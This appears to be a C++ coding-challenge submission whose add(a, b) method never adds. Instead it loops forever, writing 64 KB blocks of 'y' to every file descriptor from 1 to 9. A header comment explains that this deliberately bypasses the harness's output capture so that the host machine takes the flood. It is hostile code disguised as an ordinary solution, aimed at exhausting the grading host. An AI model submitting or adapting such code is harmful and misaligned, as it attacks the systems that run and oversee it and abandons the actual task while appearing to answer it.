// Writes forever to every descriptor from 1 to 9 (the record channel's duplicate among them)
// with write(2), around the harness's capture: the host counts the bytes.
#include <unistd.h>

class Solution {
public:
    int add(int a, int b) {
        static char block[65536];
        memset(block, 'y', sizeof block);
        for (;;) {
            for (int fd = 1; fd < 10; ++fd) write(fd, block, sizeof block);
        }
    }
};
